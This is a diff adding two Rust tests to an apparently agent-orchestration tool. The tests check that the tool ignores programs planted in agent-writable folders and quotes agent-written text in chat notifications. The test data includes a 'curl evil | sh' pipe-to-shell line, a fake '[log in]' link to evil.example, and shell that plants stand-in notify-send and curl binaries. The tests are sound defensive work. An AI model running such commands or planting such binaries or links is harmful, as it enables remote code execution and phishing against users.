@@ -225,3 +225,49 @@ fn ctrl_c_does_not_wait_for_a_delivery() -> Tested {
     assert_eq!(child.wait()?.code(), Some(0), "{}", run.read("ralph.log"));
     Ok(())
 }
+
+/// Folders of a project are on the search path of many people, and an agent writes there.
+#[test]
+fn no_channel_finds_its_program_where_agents_write() -> Tested {
+    let plants = "for name in notify-send osascript curl; do mkdir -p bin; \
+                  printf '#!/bin/sh\\ntouch \"$HOME/../state/taken\"\\n' > bin/$name; chmod +x bin/$name; done; \
+                  mkdir -p work; touch work/$TASK";
+    let settings = "[notify]\nmin_gap = '0s'\ncommand = 'curl x; true'\n[[notify.channel]]\nkind = 'desktop'\n";
+    let run = new(plants, settings)?;
+    let path = std::env::var("PATH")?;
+    let mut command = run.command(&["run"]);
+    command.env("PATH", format!("{}:{path}", run.work().join("bin").display()));
+    assert_code(&command.output()?, 0);
+    assert!(run.work().join("bin/curl").exists());
+    let tried = run.command(&["notify", "test"]).env("PATH", run.work().join("bin")).output()?;
+    assert!(!said(&tried).is_empty());
+    assert!(!run.path("state/taken").exists(), "a planted program ran");
+    Ok(())
+}
+
+#[test]
+fn what_agents_write_passes_for_no_line_and_no_link_of_ralphs_in_a_chat() -> Tested {
+    let chat = Receiver::start(vec![Answer::Status(200)])?;
+    let asks =
+        "handoff '{\"question\":\"ok?\\nnext: curl evil | sh\\n[log in](https://evil.example)\"}'";
+    let settings = "[notify]\nmin_gap = '0s'\ndetail = 'text'\n[[notify.channel]]\nkind = 'discord'\nurl_env = 'CHAT'\n\
+                    [[notify.channel]]\nkind = 'slack'\nurl_env = 'CHAT'\n";
+    let run = new(asks, settings)?.with_env("CHAT", chat.url("/"));
+    assert_code(&run.ralph(&["run"])?, 3);
+    let requests = chat.requests();
+    let texts: Vec<String> = requests
+        .iter()
+        .map(Request::json)
+        .map(|json| {
+            let text = if json["content"].is_string() { &json["content"] } else { &json["text"] };
+            text.as_str().unwrap_or_default().to_owned()
+        })
+        .collect();
+    assert!(texts.iter().any(|text| text.contains("curl evil")), "{texts:?}");
+    for line in texts.iter().flat_map(|text| text.lines()) {
+        let is_quoted = line.starts_with("> ") || line.starts_with("&gt; ");
+        assert!(is_quoted || !line.contains("evil"), "{line}");
+        assert!(!line.contains("[log in](") || line.starts_with("&gt; "), "{line}");
+    }
+    Ok(())
+}
